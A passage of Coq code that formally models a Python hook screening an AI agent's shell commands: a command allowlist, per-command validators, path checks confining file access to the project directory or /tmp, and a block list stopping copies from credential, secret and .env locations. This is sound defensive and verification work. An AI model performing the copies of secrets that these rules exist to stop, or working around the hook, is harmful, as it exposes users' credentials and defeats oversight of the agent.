  [ "status"; "show"; "list-units"; "list-unit-files"; "is-active";
    "is-enabled" ].

Definition validate_systemctl_command (command_string : string)
  : bool * string :=
  match Shlex.split command_string with
  | None => (false, "Could not parse systemctl command")
  | Some [] => (false, "Not a systemctl command")
  | Some (t0 :: args) =>
      if negb (String.eqb t0 "systemctl")
      then (false, "Not a systemctl command")
      else
        let operation := hd_error (non_flags args) in
        let shown := match operation with Some o => o | None => "None" end in
        let blocked :=
          (false, "systemctl operation '" ++ shown ++ "' not allowed (only "
                  ++ repr_set allowed_operations ++ " permitted)") in
        match operation with
        | Some o => if mem o allowed_operations then (true, EmptyString) else blocked
        | None => blocked
        end
  end.

Definition validate_init_script (command_string : string)
  : bool * string :=
  match Shlex.split command_string with
  | None => (false, "Could not parse environment setup script command")
  | Some [] => (false, "Empty command")
  | Some (script :: _) =>
      if String.eqb script "./start.sh" || endswith script "/start.sh"
         || String.eqb script "./restart.sh"
         || endswith script "/restart.sh"
         || String.eqb script "./stop.sh" || endswith script "/stop.sh"
      then (true, EmptyString)
      else (false, "Only ./start.sh, ./restart.sh, ./stop.sh is allowed, got: "
                   ++ script)
  end.

(** *** The operating system

    [env_home] is the home directory [os.path.expanduser] finds for
    the current user (from the environment or the password database),
    [pw_dir] the one of a named user.  [resolve p] is
    [str(Path(p).resolve())], or the message of the [OSError] or
    [ValueError] it raises.  The [RuntimeError] that [pathlib] raises
    for a loop of symbolic links before Python 3.13 is not modelled. *)

Inductive resolved : Type :=
| Resolved (path : string)
| OsError (message : string).

Record OS : Type := {
  env_home : option string;
  pw_dir : string -> option string;
  resolve : string -> resolved
}.

(** [s.find(c, 1)] on what follows the first character: the text
    before the first [c] and the text from it on. *)
Fixpoint break_at (x : ascii) (s : string) : string * string :=
  match s with
  | EmptyString => (EmptyString, EmptyString)
  | String c r =>
      if Ascii.eqb c x then (EmptyString, s)
      else let '(a, b) := break_at x r in (String c a, b)
  end.

(** The end of [os.path.expanduser]: the path itself when the home
    directory is not known, else the home directory without its final
    slashes, followed by the rest of the path. *)
Definition with_home (userhome : option string) (path tail : string)
  : string :=
  match userhome with
  | None => path
  | Some home =>
      match rstrip_char "/"%char home ++ tail with
      | EmptyString => "/"
      | p => p
      end
  end.

(** [os.path.expanduser].  [None] is the [ValueError] (embedded null
    byte) that [pwd.getpwnam] raises on a user name that holds the
    character zero; the function does not catch it. *)
Definition expanduser (os : OS) (path : string) : option string :=
  if startswith path "~" then
    let '(name, tail) := break_at "/"%char (drop 1 path) in
    if String.eqb name EmptyString
    then Some (with_home (env_home os) path tail)
    else if has_char ch_nul name then None
    else Some (with_home (pw_dir os name) path tail)
  else Some path.

(** The parts of a pure POSIX path: the anchor (no slash, one slash,
    or exactly two) and the components, of which the empty ones and
    the single dots are dropped. *)
Fixpoint leading_slashes (s : string) : nat :=
  match s with
  | String "/"%char r => S (leading_slashes r)
  | _ => O
  end.

Definition anchor (s : string) : string :=
  match leading_slashes s with
  | 0 => EmptyString
  | 2 => "//"
  | _ => "/"
  end.

Definition components (s : string) : list string :=
  filter (fun c => negb (String.eqb c EmptyString || String.eqb c "."))
         (split_char "/"%char s).

Fixpoint list_prefix (a b : list string) : bool :=
  match a, b with
  | [], _ => true
  | x :: a', y :: b' => String.eqb x y && list_prefix a' b'
  | _ :: _, [] => false
  end.

(** [Path(p).relative_to(Path(root))] does not raise. *)
Definition is_relative_to (p root : string) : bool :=
  String.eqb (anchor p) (anchor root)
  && list_prefix (components root) (components p).

(** [project_dir / expanded_path] for a relative [expanded_path]. *)
Definition path_join (project_dir rel : string) : string :=
  if String.eqb project_dir EmptyString || endswith project_dir "/"
  then project_dir ++ rel
  else project_dir ++ "/" ++ rel.

Definition isabs (p : string) : bool := startswith p "/".

(** *** [validate_path_within_project] *)

(** The two reasons of a refusal. *)
Definition escape_reason (path path_resolved project_resolved
                          operation : string) : string :=
  "Path escapes project directory: '" ++ path ++ "' resolves to '"
  ++ path_resolved ++ "' which is outside '" ++ project_resolved
  ++ "'. " ++ operation ++ " denied for security.".

Definition cannot_validate_reason (path e : string) : string :=
  "Cannot validate path '" ++ path ++ "': " ++ e.

(** The text of the [ValueError] of [expanduser]. *)
Definition null_byte_message : string := "embedded null byte".

(** What [Path.resolve] is called on for [path]; [None] when
    [expanduser] raises. *)
Definition resolve_target (os : OS) (path project_dir : string)
  : option string :=
  match expanduser os path with
  | None => None
  | Some expanded_path =>
      Some (if isabs expanded_path then expanded_path
            else path_join project_dir expanded_path)
  end.

Definition validate_path_within_project (os : OS) (path : string)
           (project_dir : string) (operation : string) (allow_tmp : bool)
  : bool * string :=
  if String.eqb path EmptyString then (false, "Invalid path type: <class 'str'>")
  else
    match resolve os project_dir with
    | OsError e => (false, cannot_validate_reason path e)
    | Resolved project_resolved =>
        match resolve_target os path project_dir with
        | None => (false, cannot_validate_reason path null_byte_message)
        | Some target =>
            match resolve os target with
            | OsError e => (false, cannot_validate_reason path e)
            | Resolved path_resolved =>
                let in_project :=
                  if is_relative_to path_resolved project_resolved
                  then (true, EmptyString)
                  else (false, escape_reason path path_resolved
                                             project_resolved operation) in
                if allow_tmp then
                  match resolve os "/tmp" with
                  | OsError e => (false, cannot_validate_reason path e)
                  | Resolved tmp_dir =>
                      if is_relative_to path_resolved tmp_dir
                      then (true, EmptyString)
                      else in_project
                  end
                else in_project
            end
        end
    end.

(** *** [validate_cp_source_path] *)

(** The function has no handler, so the [ValueError] of [expanduser]
    leaves it: the outer [None] of the loop and of the function.  Inside
    it, [Some reason] is a refusal and [None] the end of the loop. *)
Fixpoint cp_sensitive_loop (os : OS) (source_path expanded_path : string)
         (sensitives : list string) : option (option string) :=
  match sensitives with
  | [] => Some None
  | sensitive :: rest =>
      match expanduser os sensitive with
      | None => None
      | Some expanded_sensitive =>
          let path_lower := lower source_path in
          if String.eqb expanded_path expanded_sensitive then
            Some (Some ("cp blocked: cannot copy from sensitive path '"
                        ++ source_path ++ "'"))
          else if startswith expanded_path (expanded_sensitive ++ "/") then
            Some (Some ("cp blocked: cannot copy from sensitive directory '"
                        ++ sensitive ++ "'"))
          else if mem sensitive [ "credentials"; "secrets"; ".env" ]
                  && contains sensitive path_lower
                  && negb (startswith path_lower "./")
                  && (startswith source_path "/"
                      || startswith source_path "~")
          then
            Some (Some ("cp blocked: cannot copy sensitive file pattern '"
                        ++ source_path ++ "'"))
          else cp_sensitive_loop os source_path expanded_path rest
      end
  end.

Definition validate_cp_source_path (os : OS) (source_path : string)
  : option (bool * string) :=
  if String.eqb source_path EmptyString
  then Some (false, "Empty source path")
  else
    match expanduser os source_path with
    | None => None
    | Some expanded_path =>
        match cp_sensitive_loop os source_path expanded_path
                                SENSITIVE_SYSTEM_DIRECTORIES with
        | None => None
        | Some (Some reason) => Some (false, reason)
        | Some None => Some (true, EmptyString)
        end
    end.

(** *** [extract_file_paths_from_command] *)

Definition file_operation_commands : list string :=
  [ "cat"; "cp"; "mv"; "rm"; "rmdir"; "mkdir"; "chmod";
    "touch"; "ls"; "find"; "head"; "tail"; "tee"; "stat";
    "grep"; "awk"; "wc"; "ln" ].

(** The dict [output_commands]: the flags of a command, if it has an entry. *)
Definition output_commands (cmd : string) : option (list string) :=
  if String.eqb cmd "curl" then Some [ "-o"; "--output"; "-O" ]
  else if String.eqb cmd "wget" then Some [ "-O"; "--output-document" ]
  else if String.eqb cmd "unzip" then Some [ "-d" ]
  else if String.eqb cmd "jar" then Some [ "-C" ]
  else if String.eqb cmd "git"
  then Some [ "clone"; "--work-tree"; "--git-dir" ]
  else None.

Definition script_commands : list string :=
  [ "python"; "python3"; "node"; "java"; "bash"; "sh" ].

(** The loop of the first branch, over [tokens[1:]]. *)
Fixpoint output_loop (cmd : string) (output_flags : list string)
         (tokens : list string) : list string :=
  match tokens with
  | [] => []
  | token :: rest =>
      match mem token output_flags, rest with
      | true, next :: rest' => next :: output_loop cmd output_flags rest'
      | _, _ =>
          if negb (is_flag token)
             && mem cmd [ "unzip"; "jar" ]
             && (contains "/" token || startswith token ".")
          then token :: output_loop cmd output_flags rest
          else output_loop cmd output_flags rest
      end
  end.

(** The loop of the [git] branch, over [tokens[1:]].  The branch
    follows the test [cmd in output_commands], which [git] passes. *)
Fixpoint git_loop (tokens : list string) : list string :=
  match tokens with
  | [] => []
  | token :: rest =>
      match String.eqb token "clone", rest with
      | true, _ :: dest :: rest' =>
          if negb (is_flag dest) then dest :: git_loop rest'
          else git_loop rest'
      | _, _ =>
          match mem token [ "--work-tree"; "--git-dir" ], rest with
          | true, next :: rest' => next :: git_loop rest'
          | _, _ => git_loop rest
          end
      end
  end.

(** The script branch looks at the first token that is not a flag. *)
Definition script_paths (tokens : list string) : list string :=
  match non_flags tokens with
  | token :: _ =>
      if contains "/" token || startswith token "."
         || startswith token "~"
      then [token] else []
  | [] => []
  end.

Definition REDIRECTIONS : list string :=
  [ ">"; ">>"; "<"; "|"; "2>"; "&>"; "2>&1" ].

(** The loop of the file operations, over [tokens[1:]]. *)
Fixpoint file_op_loop (cmd : string) (skip_next : bool)
         (tokens : list string) : list string :=
  match tokens with
  | [] => []
  | token :: rest =>
      if skip_next then file_op_loop cmd false rest
      else if is_flag token then file_op_loop cmd false rest
      else if mem token REDIRECTIONS then file_op_loop cmd true rest
      else
        let is_path :=
          startswith token "/" || startswith token "~/"
          || startswith token "./" || startswith token "../"
          || contains "/" token
          || (negb (is_flag token)
              && mem cmd [ "rm"; "rmdir"; "mkdir"; "chmod"; "touch"; "ln" ])
        in
        if is_path then token :: file_op_loop cmd false rest
        else file_op_loop cmd false rest
  end.

(** The last loop: what follows an output redirection, in any command. *)
Fixpoint redirect_targets (tokens : list string) : list string :=
  match tokens with
  | [] => []
  | token :: rest =>
      match mem token [ ">"; ">>" ], rest with
      | true, next :: _ => next :: redirect_targets rest
      | _, _ => redirect_targets rest
      end
  end.

Definition extract_file_paths_from_command (command_string : string)
  : list string :=
  match Shlex.split command_string with
  | None => []
  | Some [] => []
  | Some (t0 :: args) =>
      let cmd := basename t0 in
      let paths :=
        match output_commands cmd with
        | Some output_flags => output_loop cmd output_flags args
        | None =>
            if String.eqb cmd "git" then git_loop args
            else if mem cmd script_commands then script_paths args
            else if mem cmd file_operation_commands
            then file_op_loop cmd false args
            else []
        end in
      (paths ++ redirect_targets (t0 :: args))%list
  end.

(** *** [bash_security_hook] *)

Record HookInput : Type := {
  tool_name : option string;      (* [input_data.get(tool_name)] *)
  command : option string;        (* the entry of [tool_input], if any *)
  project_dir : option string     (* the entry of [context], if any *)
}.

(** The dispatch on a command of [COMMANDS_NEEDING_EXTRA_VALIDATION]. *)
Definition extra_validation (cmd cmd_segment : string)
  : outcome (bool * string) :=
  if String.eqb cmd "pkill" then validate_pkill_command cmd_segment
  else if String.eqb cmd "chmod" then Ret (validate_chmod_command cmd_segment)
  else if mem cmd [ "start.sh"; "restart.sh"; "stop.sh" ]
  then Ret (validate_init_script cmd_segment)
  else if String.eqb cmd "docker"
  then Ret (validate_docker_command cmd_segment)
  else if String.eqb cmd "systemctl"
  then Ret (validate_systemctl_command cmd_segment)
  else if String.eqb cmd "rm" then Ret (validate_rm_command cmd_segment)
  else if String.eqb cmd "rmdir"
  then Ret (validate_rmdir_command cmd_segment)
  else if String.eqb cmd "kill" then Ret (validate_kill_command cmd_segment)
  else Ret (true, EmptyString).

(** One turn of the loop over the commands: [Ret None] lets the loop
    go on, [Ret (Some reason)] is the block returned. *)
Definition not_allowed_reason (cmd : string) : string :=
  "Command '" ++ cmd ++ "' is not in the allowed commands list.".

Definition check_command (command : string) (segments : list string)
           (cmd : string) : outcome (option string) :=
  if negb (mem cmd ALLOWED_COMMANDS) then Ret (Some (not_allowed_reason cmd))
  else if mem cmd COMMANDS_NEEDING_EXTRA_VALIDATION then
    let found := get_command_for_validation cmd segments in
    let cmd_segment := if String.eqb found EmptyString then command else found in
    match extra_validation cmd cmd_segment with
    | Raise e => Raise e
    | Ret (true, _) => Ret None
    | Ret (false, reason) => Ret (Some reason)
    end
  else Ret None.

Fixpoint check_commands (command : string) (segments : list string)
         (commands : list string) : outcome (option string) :=
  match commands with
  | [] => Ret None
  | cmd :: rest =>
      match check_command command segments cmd with
      | Ret None => check_commands command segments rest
      | r => r
      end
  end.

(** The first path of a list that a validation refuses, with the
    reason. *)
Fixpoint first_invalid (validate : string -> bool * string)
         (paths : list string) : option string :=
  match paths with
  | [] => None
  | path :: rest =>
      match validate path with
      | (true, _) => first_invalid validate rest
      | (false, reason) => Some reason
      end
  end.

(** The loop over the sources of [cp]: [Some (Some reason)] is the
    block returned, [Some None] the end of the loop, and [None] the
    [ValueError] that [validate_cp_source_path] lets out. *)
Fixpoint cp_sources_loop (os : OS) (project_dir : string)
         (sources : list string) : option (option string) :=
  match sources with
  | [] => Some None
  | src :: rest =>
      if fst (validate_path_within_project os src project_dir
                                           "cp source path" true)
      then cp_sources_loop os project_dir rest
      else
        match validate_cp_source_path os src with
        | None => None
        | Some (true, _) => cp_sources_loop os project_dir rest
        | Some (false, reason) => Some (Some reason)
        end
  end.

(** The tokens [cp] and [mv] take for paths. *)
Definition cp_mv_paths (tokens : list string) : list string :=
  filter (fun t => negb (is_flag t) && negb (mem t [ ">"; ">>"; "<"; "|" ]))
         (tl tokens).

Definition blocked (command reason : string) : Decision :=
  Block ("Bash command blocked: " ++ reason ++ nl ++ "Command: " ++ command).

(** The branch of [cp] and [mv].  Its handler of [ValueError] passes:
    when [shlex.split] raises, and when [validate_cp_source_path] does,
    nothing more is checked and the hook allows. *)
Definition cp_mv_check (os : OS) (cmd_base command project_dir : string)
  : Decision :=
  match Shlex.split command with
  | None => Allow
  | Some tokens =>
      match rev (cp_mv_paths tokens) with
      | dest :: (_ :: _) as rev_sources =>
          let sources := rev rev_sources in
          match validate_path_within_project os dest project_dir
                                             "Destination path" true with
          | (false, reason) => blocked command reason
          | (true, _) =>
              if String.eqb cmd_base "mv" then
                match first_invalid
                        (fun src => validate_path_within_project
                                      os src project_dir
                                      "Source path (mv)" true)
                        sources with
                | Some reason => blocked command ("mv source " ++ reason)
                | None => Allow
                end
              else if String.eqb cmd_base "cp" then
                match cp_sources_loop os project_dir sources with
                | Some (Some reason) => blocked command reason
                | Some None => Allow
                | None => Allow
                end
              else Allow
          end
      | _ => Allow
      end
  end.

(** The path check, made when a project directory is known. *)
Definition path_check (os : OS) (command : string)
           (commands : list string) (project_dir : string) : Decision :=
  let file_paths := extract_file_paths_from_command command in
  let cmd_base := basename (hd EmptyString commands) in
  if mem cmd_base [ "cp"; "mv" ] then
    cp_mv_check os cmd_base command project_dir
  else
    match first_invalid
            (fun path => validate_path_within_project
                           os path project_dir "File operation" true)
            file_paths with
    | Some reason => blocked command reason
    | None => Allow
    end.

Definition all_commands (command : string) : list string :=
  (extract_commands command ++ extract_substitution_commands command)%list.

(** [input_data.get(tool_name) != Bash] is the negation of this. *)
Definition is_bash (name : option string) : bool :=
  match name with
  | Some n => String.eqb n "Bash"
  | None => false
  end.

Definition bash_security_hook (os : OS) (input_data : HookInput)
  : outcome Decision :=
  if negb (is_bash (tool_name input_data)) then Ret Allow
  else
      let command := match command input_data with
                     | Some c => c
                     | None => EmptyString
                     end in
      if String.eqb command EmptyString then Ret Allow
      else
          let commands := all_commands command in
          match commands with
          | [] =>
              Ret (Block ("Could not parse command for security validation: "
                          ++ command))
          | _ :: _ =>
              let segments := split_command_segments command in
              match check_commands command segments commands with
              | Raise e => Raise e
              | Ret (Some reason) => Ret (Block reason)
              | Ret None =>
                  match project_dir input_data with
                  | Some dir => Ret (path_check os command commands dir)
                  | None => Ret Allow
                  end
              end
          end.

(** *** Vocabulary of the statements below *)

(** A call of the hook for the tool Bash. *)
Definition bash_call (cmd : string) (dir : option string) : HookInput :=
  {| tool_name := Some "Bash"; command := Some cmd; project_dir := dir |}.

(** The allowlist and the validators let every extracted name pass. *)
Definition passes_command_checks (command : string) : Prop :=
  all_commands command <> []
  /\ check_commands command (split_command_segments command)
                    (all_commands command) = Ret None.

(** The text the validator of a name is run on: the first segment that
    yields the name, or the whole command when no segment does. *)
Definition validated_segment (command name : string) : string :=
  let found :=
    get_command_for_validation name (split_command_segments command) in
  if String.eqb found EmptyString then command else found.

(** What the validator of a name answers; a name that needs no
    validator is accepted. *)
Definition validator_result (command name : string)
  : outcome (bool * string) :=
  if mem name COMMANDS_NEEDING_EXTRA_VALIDATION
  then extra_validation name (validated_segment command name)
  else Ret (true, EmptyString).

(** [cmd_base] of the hook. *)
Definition first_command (command : string) : string :=
  basename (hd EmptyString (all_commands command)).

(** The path resolves inside the project directory or the temporary
    directory. *)
Definition inside (os : OS) (project_dir path : string) : bool :=
  fst (validate_path_within_project os path project_dir "access" true).

(** The policy of [mv] and of [cp] on a destination and sources. *)
Definition mv_policy (os : OS) (project_dir : string)
           (sources : list string) (dest : string) : bool :=
  inside os project_dir dest && forallb (inside os project_dir) sources.

(** The list of sensitive paths lets the source pass. *)
Definition not_sensitive (os : OS) (src : string) : bool :=
  match validate_cp_source_path os src with
  | Some (allowed, _) => allowed
  | None => false
  end.

(** One turn of the loop of [validate_cp_source_path] refuses. *)
Definition sensitive_hit (os : OS) (source_path expanded_path : string)
           (sensitive : string) : bool :=
  match expanduser os sensitive with
  | None => false
  | Some expanded_sensitive =>
      String.eqb expanded_path expanded_sensitive
      || startswith expanded_path (expanded_sensitive ++ "/")
      || (mem sensitive [ "credentials"; "secrets"; ".env" ]
          && contains sensitive (lower source_path)
          && negb (startswith (lower source_path) "./")
          && (startswith source_path "/" || startswith source_path "~"))
  end.

Definition cp_policy (os : OS) (project_dir : string)
           (sources : list string) (dest : string) : bool :=
  inside os project_dir dest
  && forallb (fun src => inside os project_dir src || not_sensitive os src)
             sources.

(** The three paths resolve, and the canonical form of the path lies
    below the temporary directory or below the project directory. *)
Definition resolves_inside (os : OS) (project_dir path : string) : Prop :=
  path <> EmptyString
  /\ exists project_resolved target path_resolved tmp_dir,
       resolve os project_dir = Resolved project_resolved
       /\ resolve_target os path project_dir = Some target
       /\ resolve os target = Resolved path_resolved
       /\ resolve os "/tmp" = Resolved tmp_dir
       /\ (is_relative_to path_resolved tmp_dir = true
           \/ is_relative_to path_resolved project_resolved = true).

(** The canonical form of the path lies outside the project directory
    and outside the temporary directory. *)
Definition resolves_outside (os : OS) (project_dir path : string) : Prop :=
  exists project_resolved target path_resolved tmp_dir,
    resolve os project_dir = Resolved project_resolved
    /\ resolve_target os path project_dir = Some target
    /\ resolve os target = Resolved path_resolved
    /\ resolve os "/tmp" = Resolved tmp_dir
    /\ is_relative_to path_resolved project_resolved = false
    /\ is_relative_to path_resolved tmp_dir = false.

(** The resolution of one of the three paths fails, or the expansion
    of the home directory does. *)
Definition resolution_fails (os : OS) (project_dir path : string) : Prop :=
  (exists e, resolve os project_dir = OsError e)
  \/ resolve_target os path project_dir = None
  \/ (exists target e,
        resolve_target os path project_dir = Some target
        /\ resolve os target = OsError e)
  \/ (exists e, resolve os "/tmp" = OsError e).

(** A text without quote characters, parentheses or dollar signs. *)
Definition quiet_char (c : ascii) : bool :=
  negb (Ascii.eqb c ch_sq || Ascii.eqb c ch_dq || Ascii.eqb c "("%char
        || Ascii.eqb c ")"%char || Ascii.eqb c "$"%char).

Fixpoint quiet (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c r => quiet_char c && quiet r
  end.

(** [inner] wrapped in [n] command substitutions. *)
Fixpoint nest (n : nat) (inner : string) : string :=
  match n with
  | O => inner
  | S k => "echo $(" ++ nest k inner ++ ")"
  end.

(** The last character of [s], or [prev] when [s] is empty. *)
Fixpoint last_char (prev : ascii) (s : string) : ascii :=
  match s with
  | EmptyString => prev
  | String c r => last_char c r
  end.

(** The paths whose resolution the hook may ask for on an input: the
    project directory, the temporary directory, and what a token after
    the first one of the command stands for. *)
Definition asked (os : OS) (input : HookInput) (p : string) : Prop :=
  exists dir c,
    project_dir input = Some dir
    /\ command input = Some c
    /\ (p = dir \/ p = "/tmp"
        \/ exists tokens t,
             Shlex.split c = Some tokens
             /\ In t (tl tokens)
             /\ resolve_target os t dir = Some p).

(** *** Vocabulary of the further properties *)

(** The token without its trailing semicolon, as the loop of
    [extract_commands] reads it. *)
Definition chop_semicolon (token : string) : string :=
  if endswith token ";" then drop_last token else token.

(** A token the loop can take for a command: not an operator, not
    [for] or [select], not a keyword, not a flag, not an assignment. *)
Definition command_word (token : string) : bool :=
  negb (mem token OPERATORS)
  && negb (mem token [ "for"; "select" ])
  && negb (mem token KEYWORDS)
  && negb (startswith token "-")
  && negb (contains "=" token && negb (startswith token "=")).

(** A token that neither ends a command nor opens one. *)
Definition argument_token (token : string) : bool :=
  negb (endswith token ";")
  && negb (mem token OPERATORS)
  && negb (mem token [ "for"; "select" ])
  && negb (mem token KEYWORDS).

(** A text made of the letters u, g, o and a. *)
Fixpoint who_letters (s : string) : bool :=
  match s with
  | EmptyString => true
  | String c r => mem (str1 c) [ "u"; "g"; "o"; "a" ] && who_letters r
  end.

(** The process name [validate_pkill_command] looks up for a target
    that holds more than blanks. *)
Definition pkill_process (target : string) : string :=
  if contains " " target then hd EmptyString (split_ws target) else target.

(** What the loops of three validators accept. *)
Definition rmdir_target_ok (target : string) : bool :=
  negb (mem target rmdir_dangerous_patterns)
  && negb (contains ".." target && negb (startswith target "./")).

Definition system_mount (token volume_spec : string) : bool :=
  mem token [ "-v"; "--volume" ]
  && contains ":" volume_spec
  && mem (hd EmptyString (split_char ":"%char volume_spec))
         [ "/"; "/home"; "/etc"; "/usr"; "/var" ].

Definition kill_pid_ok (pid : string) : bool :=
  startswith pid "%"
  || match py_int pid with
     | Some pid_num => (100 <=? pid_num)%Z
     | None => true
     end.

(** A dash token of [kill] with a body names a signal; the last such
    token decides, from [signal] on. *)
Definition names_signal (token : string) : bool :=
  startswith token "-" && negb (String.eqb token "-").

Definition last_signal (signal : option string) (args : list string)
  : option string :=
  fold_left (fun acc token =>
               if names_signal token then Some (upper (drop 1 token))
               else acc)
            args signal.

(** What [validate_rm_command] asks of one target. *)
Definition rm_target_ok (is_recursive : bool) (target : string) : bool :=
  negb (rm_dangerous target)
  && negb (is_recursive
           && (startswith target ".*" || contains "/.." target
               || contains "*" target)).

End Security.

(** ** A file system without symbolic links

    Used to run the hook on concrete inputs: resolution is the lexical
    normalisation of an absolute path, a relative path being taken from
    the working directory [cwd]. *)

Module PlainFs.
Import PyStr Security.

(** Components with the double dots applied; [acc] is reversed. *)
Fixpoint collapse (acc : list string) (comps : list string)
  : list string :=
  match comps with
  | [] => rev acc
  | ".." :: rest => collapse (tl acc) rest
  | c :: rest => collapse (c :: acc) rest
  end.

Definition normalize (cwd p : string) : string :=
  let full := if isabs p then p else cwd ++ "/" ++ p in
  let root := if String.eqb (anchor full) "//" then "//" else "/" in
  root ++ join "/" (collapse [] (components full)).

Definition plain_os (cwd home : string) : OS :=
  {| env_home := Some home;
     pw_dir := fun _ => None;
     resolve := fun p => if has_char ch_nul p
                         then OsError "embedded null byte"
                         else Resolved (normalize cwd p) |}.

(** The project is [/work/proj] and the home directory [/home/dev]. *)
Definition dev_os : OS := plain_os "/work/proj" "/home/dev".

Definition run (cmd : string) : outcome Decision :=
  bash_security_hook dev_os (bash_call cmd (Some "/work/proj")).

Definition run_no_dir (cmd : string) : outcome Decision :=
  bash_security_hook dev_os (bash_call cmd None).

End PlainFs.

(** ** The module [client.py]

    Of [create_client], the parts that compute: the hook that is
    registered for the tool Bash, and the counts that are printed. *)

Module Client.
Import PyStr Security.

(** [bash_security_hook_with_context]: the entry [project_dir] of the
    context is set to the project directory of the client, whatever the
    context held, and the hook is called. *)
Definition bash_security_hook_with_context (os : OS) (project_dir : string)
           (input_data : HookInput) : outcome Decision :=
  bash_security_hook os {| tool_name := tool_name input_data;
                           command := command input_data;
                           Security.project_dir := Some project_dir |}.

(** [t.startswith('mcp__')] *)
Definition is_mcp (t : string) : bool := startswith t "mcp__".

Definition mcp_tool_count (allowed_tools : list string) : nat :=
  List.length (filter is_mcp allowed_tools).

Definition builtin_count (allowed_tools : list string) : nat :=
  List.length (filter (fun t => negb (is_mcp t)) allowed_tools).

(** [s.split(sep)] for a separator that is not empty: the cuts are made
    from left to right.  [skip] counts the characters of the separator
    still to drop. *)
Fixpoint split_str_aux (sep : string) (skip : nat) (cur : string)
         (s : string) : list string :=
  match s with
  | EmptyString => [cur]
  | String c r =>
      match skip with
      | S k => split_str_aux sep k cur r
      | O =>
          if String.prefix sep s then
            cur :: split_str_aux sep (String.length sep - 1) EmptyString r
          else split_str_aux sep O (cur ++ str1 c) r
      end
  end.

Definition split_str (sep s : string) : list string :=
  split_str_aux sep O EmptyString s.

(** [t.split('__')[1]]; [None] is [IndexError]. *)
Definition server_name (t : string) : option string :=
  nth_error (split_str "__" t) 1.

Fixpoint all_some {A : Type} (l : list (option A)) : option (list A) :=
  match l with
  | [] => Some []
  | Some a :: r => option_map (cons a) (all_some r)
  | None :: r => None
  end.

(** [len(set(t.split('__')[1] for t in allowed_tools if
    t.startswith('mcp__')))] *)
Definition mcp_servers_with_tools (allowed_tools : list string)
  : option nat :=
  option_map (fun names => List.length (nodup string_dec names))
             (all_some (map server_name (filter is_mcp allowed_tools))).

End Client.

(** * The sets of the module as a store

    [ALLOWED_COMMANDS], [COMMANDS_NEEDING_EXTRA_VALIDATION] and
    [SENSITIVE_SYSTEM_DIRECTORIES] are objects of the module that every
    call of the hook shares.  Here the functions that touch them are
    written once more with the store passed along: a test [x in S] or a
    loop over [S] reads the store; an assignment to one of the names,
    or a call of a method that changes a set, would write it. *)

Module Store.
Import PyStr Security.

Record Config : Type := {
  allowed : list string;         (* [ALLOWED_COMMANDS] *)
  needing_extra : list string;   (* [COMMANDS_NEEDING_EXTRA_VALIDATION] *)
  sensitive : list string        (* [SENSITIVE_SYSTEM_DIRECTORIES] *)
}.

(** The store when the module has been loaded. *)
Definition module_config : Config :=
  {| allowed := ALLOWED_COMMANDS;
     needing_extra := COMMANDS_NEEDING_EXTRA_VALIDATION;
     sensitive := SENSITIVE_SYSTEM_DIRECTORIES |}.

(** A computation returns a value and the store it leaves. *)
Definition M (A : Type) : Type := Config -> A * Config.

Definition ret {A : Type} (a : A) : M A := fun store => (a, store).

Definition bind {A B : Type} (m : M A) (f : A -> M B) : M B :=
  fun store => let '(a, store') := m store in f a store'.

(** A read, and what a write would be; the functions of the module
    use the first only. *)
Definition get : M Config := fun store => (store, store).

Definition put (c : Config) : M unit := fun _ => (tt, c).

Notation "x <- m ;; f" := (bind m (fun x => f))
  (at level 61, m at next level, right associativity).

Definition check_command (command : string) (segments : list string)
           (cmd : string) : M (outcome (option string)) :=
  store <- get ;;
  if negb (mem cmd (allowed store))
  then ret (Ret (Some (not_allowed_reason cmd)))
  else
    store' <- get ;;
    if mem cmd (needing_extra store') then
      let found := get_command_for_validation cmd segments in
      let cmd_segment :=
        if String.eqb found EmptyString then command else found in
      ret (match extra_validation cmd cmd_segment with
           | Raise e => Raise e
           | Ret (true, _) => Ret None
           | Ret (false, reason) => Ret (Some reason)
           end)
    else ret (Ret None).

Fixpoint check_commands (command : string) (segments : list string)
         (commands : list string) : M (outcome (option string)) :=
  match commands with
  | [] => ret (Ret None)
  | cmd :: rest =>
      r <- check_command command segments cmd ;;
      match r with
      | Ret None => check_commands command segments rest
      | _ => ret r
      end
  end.

Definition validate_cp_source_path (os : OS) (source_path : string)
  : M (option (bool * string)) :=
  if String.eqb source_path EmptyString
  then ret (Some (false, "Empty source path"))
  else
    match expanduser os source_path with
    | None => ret None
    | Some expanded_path =>
        store <- get ;;
        ret (match cp_sensitive_loop os source_path expanded_path
                                     (sensitive store) with
             | None => None
             | Some (Some reason) => Some (false, reason)
             | Some None => Some (true, EmptyString)
             end)
    end.

Fixpoint cp_sources_loop (os : OS) (project_dir : string)
         (sources : list string) : M (option (option string)) :=
  match sources with
  | [] => ret (Some None)
  | src :: rest =>
      if fst (validate_path_within_project os src project_dir
                                           "cp source path" true)
      then cp_sources_loop os project_dir rest
      else
        r <- validate_cp_source_path os src ;;
        match r with
        | None => ret None
        | Some (true, _) => cp_sources_loop os project_dir rest
        | Some (false, reason) => ret (Some (Some reason))
        end
  end.

Definition cp_mv_check (os : OS) (cmd_base command project_dir : string)
  : M Decision :=
  match Shlex.split command with
  | None => ret Allow
  | Some tokens =>
      match rev (cp_mv_paths tokens) with
      | dest :: (_ :: _) as rev_sources =>
          let sources := rev rev_sources in
          match validate_path_within_project os dest project_dir
                                             "Destination path" true with
          | (false, reason) => ret (blocked command reason)
          | (true, _) =>
              if String.eqb cmd_base "mv" then
                ret (match first_invalid
                             (fun src => validate_path_within_project
                                           os src project_dir
                                           "Source path (mv)" true)
                             sources with
                     | Some reason => blocked command ("mv source " ++ reason)
                     | None => Allow
                     end)
              else if String.eqb cmd_base "cp" then
                r <- cp_sources_loop os project_dir sources ;;
                ret (match r with
                     | Some (Some reason) => blocked command reason
                     | Some None => Allow
                     | None => Allow
                     end)
              else ret Allow
          end
      | _ => ret Allow
      end
  end.

Definition path_check (os : OS) (command : string)
           (commands : list string) (project_dir : string) : M Decision :=
  let file_paths := extract_file_paths_from_command command in
  let cmd_base := basename (hd EmptyString commands) in
  if mem cmd_base [ "cp"; "mv" ] then
    cp_mv_check os cmd_base command project_dir
  else
    ret (match first_invalid
                 (fun path => validate_path_within_project
                                os path project_dir "File operation" true)
                 file_paths with
         | Some reason => blocked command reason
         | None => Allow
         end).

Definition bash_security_hook (os : OS) (input_data : HookInput)
  : M (outcome Decision) :=
  if negb (is_bash (tool_name input_data)) then ret (Ret Allow)
  else
      let command := match command input_data with
                     | Some c => c
                     | None => EmptyString
                     end in
      if String.eqb command EmptyString then ret (Ret Allow)
      else
